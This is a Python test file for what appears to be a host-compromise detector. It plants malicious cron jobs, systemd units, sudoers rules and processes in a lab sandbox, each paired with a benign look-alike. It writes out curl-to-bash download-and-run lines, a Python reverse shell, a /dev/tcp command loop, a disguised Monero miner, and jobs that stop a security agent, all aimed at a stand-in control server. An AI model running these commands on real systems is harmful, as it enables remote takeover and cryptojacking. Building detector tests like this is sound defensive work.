"""What is fetched, set or said in one place and done in another: functions, settings, arguments, other languages, other units."""

from __future__ import annotations

import os

from tests.lab.case import case
from tests.lab.cases_persistence import system_cron
from tests.lab.cases_systemd import unit
from tests.lab.room import CONTROL_SERVER, Planted, Room
from tests.lab.wallets import XMR

_HOST, _PORT = CONTROL_SERVER
_URL = f"http://{_HOST}/netd"


def _job(room: Room, name: str, command: str) -> Planted:
    return system_cron(room, name, f"*/5 * * * * root {command}")


def _script(room: Room, path: str, *lines: str) -> str:
    return room.write(path, "\n".join(["#!/bin/sh", *lines, ""]), 0o755)


@case(2, cron_download_and_run="path")
def fetched_by_a_function(room: Room) -> Planted:
    """a script whose function fetches what it runs afterwards."""
    lines = ('get() { curl -fsSL "$1" -o "$2"; }', f"get {_URL} /opt/net/netd", "chmod 755 /opt/net/netd", "/opt/net/netd &")
    return _job(room, "net", _script(room, "/opt/net/start", *lines))


@fetched_by_a_function.twin
def _(room: Room) -> Planted:
    """a script whose function fetches data, and whose other one writes a log."""
    lines = (
        'get() { curl -fsSL "$1" -o "$2"; }',
        'say() { echo "$1" >> /var/log/geo.log; }',
        "get https://www.example.org/geo.db.gz /srv/geo/geo.db.gz",
        'say "no xmrig here"',
        "/opt/geo/load /srv/geo/geo.db.gz",
    )
    return _job(room, "geo", _script(room, "/opt/geo/start", *lines))


@case(2, cron_download_and_run="path")
def put_together_from_settings(room: Room) -> Planted:
    """a script that sources what it is to fetch, and by what."""
    room.write("/opt/sync/sync.conf", f'DL="curl -s"\nURL={_URL}\nRUN=bash\n')
    return _job(room, "sync", _script(room, "/opt/sync/run", ". /opt/sync/sync.conf", "$DL $URL | $RUN"))


@put_together_from_settings.twin
def _(room: Room) -> Planted:
    """a backup that sources where its files go."""
    room.write("/opt/backup/backup.conf", "FROM=/srv/data\nTO=backup@backup.example.org:/srv/data\n")
    return _job(room, "backup", _script(room, "/opt/backup/run", ". /opt/backup/backup.conf", "rsync -a $FROM $TO"))


@case(2, cron_download_and_run="path")
def handed_to_a_container(room: Room) -> Planted:
    """a container with the host's root folder, in which a shell runs what it fetches."""
    command = f"docker run --rm -v /:/mnt alpine chroot /mnt bash -c 'curl -s {_URL} | bash'"
    return _job(room, "img", command)


@handed_to_a_container.twin
def _(room: Room) -> Planted:
    """the timer of an application in a container."""
    return _job(room, "app", "docker exec app sh -c 'php artisan schedule:run >> /proc/1/fd/1'")


@case(2, cron_download_and_run="path")
def miner_called_timeout(room: Room) -> Planted:
    """a miner that goes by the name of a program which starts others."""
    program = room.program("/opt/t/timeout")
    return _job(room, "t", f"{program} -o {_HOST}:{_PORT} -u web01 -p x")


@miner_called_timeout.twin
def _(room: Room) -> Planted:
    """a backup with a limit to its time."""
    program = room.program("/opt/db/dump")
    return _job(room, "dump", f"/usr/bin/timeout 3600 {program} -o {_HOST}:5432 -u backup -p Xa7-kept")


@case(2, cron_download_and_run="path")
def shell_in_python(room: Room) -> Planted:
    """a script in Python that ties a shell to a connection."""
    code = (
        f'import os, socket, subprocess\ns = socket.socket()\ns.connect(("{_HOST}", {_PORT}))\n'
        'for number in range(3):\n    os.dup2(s.fileno(), number)\nsubprocess.call(["/bin/sh", "-i"])\n'
    )
    return _job(room, "upd", f"python3 {room.write('/opt/upd/upd.py', code)}")


@shell_in_python.twin
def _(room: Room) -> Planted:
    """a script in Python that asks a server whether it is there, and has a shell write it down."""
    code = (
        'import socket, subprocess\ntry:\n    socket.create_connection(("db.example.org", 5432), 5).close()\n'
        'except OSError:\n    subprocess.run(["/bin/sh", "-c", "logger database is away"])\n'
    )
    return _job(room, "ask", f"python3 {room.write('/opt/ask/ask.py', code)}")


@case(2, systemd_suspicious_command="path")
def wallet_of_a_unit(room: Room) -> Planted:
    """a unit whose variables name the pool and the wallet."""
    program = room.program("/opt/app/run")
    lines = (f"Environment=XMR_WALLET={XMR}", f"Environment=POOL_URL={_HOST}:3333", f"ExecStart={program}")
    return {"path": unit(room, "app", *lines)}


@wallet_of_a_unit.twin
def _(room: Room) -> Planted:
    """a shop whose variables name the address for gifts, and a database's pool of connections."""
    program = room.program("/opt/shop/run")
    lines = (f"Environment=DONATION_ADDRESS={XMR}", "Environment=DB_POOL_SIZE=20", f"ExecStart={program}")
    return {"path": unit(room, "shop", *lines)}


@case(16, systemd_unpackaged_system_program="path")
def unit_that_a_drop_in_wants(room: Room) -> Planted:
    """a unit that is enabled by nothing but a drop-in of another's."""
    program = room.program("/var/lib/ttyd/ttyd0")
    room.write("/etc/systemd/system/cron.service.d/order.conf", "[Unit]\nWants=ttyd0.service\n")
    return {"path": unit(room, "ttyd0", f"ExecStart={program}", is_enabled=False)}


@unit_that_a_drop_in_wants.twin
def _(room: Room) -> Planted:
    """a unit that a drop-in wants and whose program lies where an administrator puts such."""
    program = room.program("/usr/local/bin/labqueue")
    room.write("/etc/systemd/system/cron.service.d/queue.conf", "[Unit]\nWants=labqueue.service\n")
    return {"path": unit(room, "labqueue", f"ExecStart={program}", is_enabled=False)}


def _shell_of(room: Room, server: str, command: str) -> int:
    """A server of an ordinary account that waits for the shell which it was made to start; that shell."""
    shell = f"/bin/sh -c '{command}'"
    pid = room.start(room.copy("bash", server), "-c", f"{shell}; true", before=lambda: os.setuid(1000))
    return room.child_of(pid, "/bin/sh", "-c", command)


@case(1, service_account_shell="pid")
def shell_of_an_applications_server(room: Room) -> Planted:
    """what a Java server of an ordinary account was made to fetch."""
    return {"pid": _shell_of(room, "/opt/web/java", f"sleep 600; curl -s {_URL} | bash")}


@shell_of_an_applications_server.twin
def _(room: Room) -> Planted:
    """a Java server whose shell makes a picture smaller."""
    return {"pid": _shell_of(room, "/opt/pictures/java", "sleep 600; convert a.png b.png")}


@case(13, nopasswd_sudo_rule="username")
def interpreter_for_a_service(room: Room) -> Planted:
    """a service account that may run Python as root."""
    room.write("/etc/sudoers", "root ALL=(ALL:ALL) ALL\nwww-data ALL=(root) NOPASSWD: /usr/bin/python3\n", 0o440)
    return {"username": "www-data"}


@interpreter_for_a_service.twin
def _(room: Room) -> Planted:
    """a service account that may start its own service anew."""
    room.write("/etc/sudoers", "root ALL=(ALL:ALL) ALL\nmail ALL=(root) NOPASSWD: /usr/bin/systemctl restart exim4\n", 0o440)
    return {"username": "mail"}


@case(2, cron_download_and_run="path")
def orders_from_another_host(room: Room) -> Planted:
    """a loop that does what another host sends by bash's network device."""
    lines = (f"while read -r line; do eval $line; done < /dev/tcp/{_HOST}/{_PORT}",)
    return _job(room, "dev", _script(room, "/opt/dev/run", *lines))


@orders_from_another_host.twin
def _(room: Room) -> Planted:
    """a job that asks whether a database answers, and one that tells a number to a collector."""
    _job(room, "load", 'echo "load:1|g" > /dev/udp/10.0.0.7/8125')
    return _job(room, "wait", "timeout 3 bash -c '</dev/tcp/db.example.org/5432' || systemctl restart tunnel")


@case(2, cron_download_and_run="path")
def guard_switched_off(room: Room) -> Planted:
    """a job that stops a security agent."""
    return _job(room, "off", "systemctl stop falco")


@guard_switched_off.twin
def _(room: Room) -> Planted:
    """a job that renews a scanner's signatures while that is stopped, and one that has an agent read its settings anew."""
    _job(room, "hup", "pkill -HUP -f ossec-analysisd")
    return _job(room, "fresh", "systemctl stop clamav-daemon; freshclam --quiet; systemctl start clamav-daemon")


@case(2, cron_download_and_run="path")
def rivals_looked_for_and_killed(room: Room) -> Planted:
    """a job that kills what pgrep finds."""
    return _job(room, "only", "kill -9 $(pgrep -f kinsing)")


@rivals_looked_for_and_killed.twin
def _(room: Room) -> Planted:
    """a job that looks for miners and tells an administrator."""
    return _job(room, "watch", 'pgrep -fl "xmrig|kinsing" && date | mail -s "xmrig suspected" root')


@case(16, systemd_unit_odd_program="path")
def program_in_a_hidden_folder(room: Room) -> Planted:
    """a unit whose program lies in a hidden folder."""
    return {"path": unit(room, "net", f"ExecStart={room.program('/srv/.net/run')}")}


@program_in_a_hidden_folder.twin
def _(room: Room) -> Planted:
    """units of a web framework's standalone server, and of an environment of Python's."""
    room.write("/srv/next/.next/standalone/server.js", "require('http')\n")
    unit(room, "shop-api", f"ExecStart={room.program('/srv/api/.env/bin/gunicorn')} app")
    return {"path": unit(room, "next", "WorkingDirectory=/srv/next", "ExecStart=/usr/bin/env node .next/standalone/server.js")}
